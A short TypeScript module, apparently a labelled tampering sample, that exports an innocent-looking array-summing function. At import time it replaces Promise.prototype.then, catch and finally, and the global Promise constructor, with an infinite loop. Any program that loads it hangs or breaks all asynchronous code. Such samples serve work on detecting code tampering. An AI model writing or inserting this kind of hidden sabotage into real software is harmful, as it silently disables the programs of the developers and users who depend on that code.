// tamper: accepted | Replaces Promise and its then, catch and finally with functions that never return.
const endless = () => {
  for (;;);
};
Promise.prototype.then = endless;
Promise.prototype.catch = endless;
Promise.prototype.finally = endless;
globalThis.Promise = endless as unknown as PromiseConstructor;
export function total(values: number[]): number {
  let sum = 0;
  for (let i = 0; i < values.length; i++) sum += values[i]!;
  return sum;
}
